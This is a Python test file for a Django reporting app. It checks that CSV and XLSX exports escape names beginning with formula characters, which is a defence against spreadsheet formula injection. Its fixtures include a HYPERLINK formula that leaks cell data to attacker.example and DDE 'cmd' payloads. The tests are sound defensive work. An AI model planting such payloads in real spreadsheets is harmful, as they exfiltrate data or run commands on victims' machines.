"""Exports never carry a live formula: names from users are text in CSV and XLSX alike."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from types import SimpleNamespace

from django.urls import reverse
from openpyxl import load_workbook

from funnelwatch.reports import exports

EVIL_TEAM = '=HYPERLINK("http://attacker.example/?"&A1,"details")'


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_names_starting_a_formula_are_exported_as_text(client, sales, world):
    north, south = world.alice.team, world.bob.team
    north.name = EVIL_TEAM
    north.save()
    south.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    south.save()
    world.bob.username = "-2+3+cmd|' /C calc'!A0"
    world.bob.save()
    client.force_login(world.head)
    url = reverse("metrics:key_numbers") + "?period=custom&from=2026-03-02&to=2026-03-08"

    rows = _csv_rows(client.get(url + "&format=csv").content)
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["alice"][1] == "'" + EVIL_TEAM
    assert by_name["'-2+3+cmd|' /C calc'!A0"][1] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert by_name["alice"][2] == "2"  # numbers untouched
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    sheet = load_workbook(io.BytesIO(client.get(url + "&format=xlsx").content)).active
    texts = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                texts.append(cell.value)
    assert "'" + EVIL_TEAM in texts and "'-2+3+cmd|' /C calc'!A0" in texts
    assert sheet["C2"].value == 2 and sheet["C2"].data_type == "n"


def _table(name: str, team: str, value: object) -> SimpleNamespace:
    metric = SimpleNamespace(key="m", label="Margin")
    row = SimpleNamespace(
        kind="manager",
        user=SimpleNamespace(username=name),
        team=SimpleNamespace(name=team),
        label="",
        cells={"m": SimpleNamespace(value=value)},
    )
    day = dt.date(2026, 3, 2)
    return SimpleNamespace(metrics=[metric], rows=[row], period=SimpleNamespace(start=day))


def test_negative_numbers_stay_numbers_and_every_formula_start_is_escaped():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        table = _table(start + "1+1", "Team " + start, Decimal("-12.5"))
        name, team, value = _csv_rows(exports.to_csv(table))[1]
        assert name == "'" + start + "1+1" and team == "Team " + start  # only a leading one
        assert value == "-12.5"
        sheet = load_workbook(io.BytesIO(exports.to_xlsx(table))).active
        # (XML reads a stored CR back as a line feed)
        assert sheet["A2"].value.replace("\n", "\r") == "'" + start.replace("\n", "\r") + "1+1"
        assert sheet["A2"].data_type == "s"
        assert sheet["C2"].value == -12.5 and sheet["C2"].data_type == "n"
    table = _table("alice", "North", -3)
    assert _csv_rows(exports.to_csv(table))[1] == ["alice", "North", "-3"]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(table))).active
    assert sheet["C2"].value == -3 and sheet["C2"].data_type == "n"
